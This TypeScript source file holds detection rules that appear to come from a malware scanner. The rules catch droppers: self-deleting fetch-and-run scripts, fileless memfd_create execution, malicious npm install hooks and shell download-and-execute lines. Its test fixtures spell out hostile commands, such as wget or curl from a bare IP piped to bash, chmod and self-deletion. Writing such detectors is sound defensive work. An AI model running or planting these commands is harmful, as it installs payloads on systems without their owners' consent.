import { ADDRESS, DROP_PLACE, FETCH, PASTES, re } from './fetching.ts'
import type { ContentRule } from './rule.ts'

/** What scripts and programs that fetch something do around it. */
export const DROPPERS_AROUND: readonly ContentRule[] = [
  {
    number: 107,
    name: 'Script.Dropper.SelfDeleting',
    title: ['Script that fetches something, runs it and deletes itself', '下载并执行后自删除的脚本'],
    kind: 'dropper',
    in: ['script'],
    when: {
      all: [
        {
          pattern:
            /(?:^|[\n;&|({]\s{0,8}|\b(?:then|do|else|sudo|trap)\s{1,4}["']?)(?:rm|shred|unlink)\s+(?:-[a-z]{1,5}\s+){0,2}(?:--\s+)?["']?(?:\$0|\$\{0\}|\$BASH_SOURCE|\$\{BASH_SOURCE(?:\[0\])?\}|\$\(readlink -f "?\$0"?\)|\$\(basename "?\$0"?\)|\$SCRIPT\b)|os\.(?:remove|unlink)\((?:__file__|sys\.argv\[0\])|(?:^|[;{}\n]\s{0,8})unlink\s{0,2}\(?\s{0,2}\$0|unlink\(__FILE__/,
          near: ['$0', '${0}', 'BASH_SOURCE', '__file__', 'sys.argv[0]', '$script', 'readlink -f']
            .filter((text) => text.length > 3)
            .concat(['rm -', 'shred', 'unlink']),
        },
        { any: FETCH },
        {
          any: [
            { pattern: re(String.raw`(?:${ADDRESS}|${PASTES})`), near: FETCH },
            { pattern: re(String.raw`(?:curl|wget)\b[^\n]{0,300}${DROP_PLACE}[^\n]{0,300}`), near: FETCH },
          ],
        },
        { any: ['chmod', '| bash', '|bash', '| sh', '|sh', 'nohup', 'exec', 'python', './'] },
      ],
    },
    attack: ['T1070.004', 'T1105'],
    references: ['https://attack.mitre.org/techniques/T1070/004/'],
    match: [
      '#!/bin/sh',
      'wget -q http://198.51.100.7/x -O /dev/shm/x && chmod +x /dev/shm/x && /dev/shm/x &',
      'rm -f "$0"',
    ],
    harmless: ['#!/bin/sh', 'apt-get update && curl -fsSL https://example.org/install -o install', 'rm -- "$0"'],
  },
  {
    number: 108,
    name: 'Script.Dropper.MemoryOnly',
    title: ['Script or program that runs something that is in no file', '无文件执行的脚本或程序'],
    kind: 'dropper',
    in: ['script'],
    confidence: 'medium',
    when: {
      any: [
        {
          all: [
            'memfd_create(',
            { any: ['urlopen', 'requests.get', 'b64decode', 'LWP', 'decode_base64', 'HTTP::Tiny', 'fromhex', 'zlib'] },
            { any: ['execv', 'os.exec', 'exec {', '/proc/self/fd', '/proc/'] },
            { any: ['/proc/', 'ctypes', 'syscall', 'fexecve'] },
          ],
        },
        { pattern: /syscall\s?\(\s?(?:319|279)\b[^\n]{0,300}/, near: ['syscall'] },
        {
          all: [
            'memfd_create',
            { any: ['/proc/self/fd/%d', '/proc/%d/fd/%d', 'fexecve'] },
            { any: ['GET /%s', 'GET %s HTTP', 'http://%d.%d', '[kworker', '[kthread', 'HISTFILE', 'ld.so.preload'] },
          ],
        },
        { all: ['ddexec.sh'] },
        {
          pattern:
            /dd\s[^\n]{0,200}of=\/proc\/(?:self|\$\$)\/mem[^\n]{0,100}|dd\s[^\n]{0,200}seek=[^\n]{0,100}>\s?\/proc\/(?:self|\$\$)\/mem/,
          near: ['/proc/self/mem', '/proc/$$/mem'],
        },
      ],
    },
    attack: ['T1620', 'T1059.004'],
    references: [
      'https://attack.mitre.org/techniques/T1620/',
      'https://www.wiz.io/blog/pyloose-first-python-based-fileless-attack-on-cloud-workloads',
    ],
    match: [
      '#!/usr/bin/python3',
      'import ctypes, os, base64, zlib',
      'fd = ctypes.CDLL(None).memfd_create(b"", 1)',
      'os.write(fd, zlib.decompress(base64.b64decode(p)))',
      'os.execve("/proc/self/fd/%d" % fd, ["x"], os.environ)',
      'ctypes.CDLL(None).syscall(319, "", 1)',
    ],
    harmless: ['#!/usr/bin/python3', 'fd = os.memfd_create("shm")', 'os.ftruncate(fd, 4096)'],
  },
  {
    number: 109,
    name: 'Script.Dropper.Installer',
    title: ['Step of a package that fetches and runs something from a bare address', '安装步骤从裸地址下载并执行内容'],
    kind: 'dropper',
    in: ['script', 'text'],
    when: {
      any: [
        {
          pattern: re(
            String.raw`"(?:pre|post)?install"\s{0,4}:\s{0,4}"[^"\n]{0,300}(?:curl|wget|powershell|base64)\b[^"\n]{0,300}(?:${ADDRESS}|${PASTES}|\|\s{0,4}(?:ba)?sh)`,
          ),
          near: ['install"'],
        },
        {
          pattern: re(
            String.raw`(?:os\.system|subprocess\.\w{1,20}|Popen)\s{0,4}\(\s{0,4}[\["'f]{1,4}[^\n]{0,120}(?:curl|wget)\b[^\n]{0,200}(?:${ADDRESS}|${PASTES})`,
          ),
          near: ['os.system', 'subprocess.', 'Popen'],
        },
        {
          pattern: re(
            String.raw`(?:child_process|exec|execSync|spawn)[^\n]{0,200}(?:curl|wget)\b[^\n]{0,200}(?:${ADDRESS}|${PASTES})`,
          ),
          near: ['child_process', 'execSync'],
        },
      ],
    },
    attack: ['T1195.002', 'T1105'],
    references: ['https://attack.mitre.org/techniques/T1195/002/'],
    match: ['{ "name": "x",', '"scripts": { "preinstall": "curl -s http://198.51.100.7/p | bash" } }'],
    harmless: [
      '{ "name": "x",',
      '"scripts": { "postinstall": "node install.js", "build": "curl -O https://example.org/a" } }',
    ],
  },
  {
    number: 110,
    name: 'Program.Dropper.Shell',
    title: ['Program that has a shell fetch and run something', '调用 shell 下载并执行内容的程序'],
    kind: 'dropper',
    in: ['program'],
    when: {
      any: [
        {
          pattern: re(
            String.raw`(?:curl|wget|tftp|busybox wget)\s[^\0\n|]{0,200}(?:${ADDRESS}|https?:\/\/%s|${PASTES})[^\0\n]{0,300}(?:\|\s{0,4}(?:ba)?sh\b|chmod\s+(?:\+x|777|[0-7]{3}))`,
          ),
          near: ['curl ', 'wget ', 'tftp '],
        },
        { pattern: /cd\s+\/tmp[^\0\n]{0,200}(?:wget|curl|tftp)\b[^\0\n]{0,300}(?:chmod|\bsh\b)/, near: ['cd /tmp'] },
        {
          pattern: /(?:\*\/?\d{0,2}\s+){3,5}[^\0\n]{0,60}(?:curl|wget)\b[^\0\n]{0,300}\|\s{0,4}(?:ba)?sh\b/,
          near: ['curl ', 'wget '],
        },
      ],
    },
    references: ['https://attack.mitre.org/techniques/T1105/'],
    match: ['cd /tmp || cd /var/run; wget http://%s/bins.sh; chmod 777 bins.sh; sh bins.sh', 'wget http://%s/x | sh'],
    harmless: ['wget http://%s/index.html', 'cd /tmp'],
  },
]
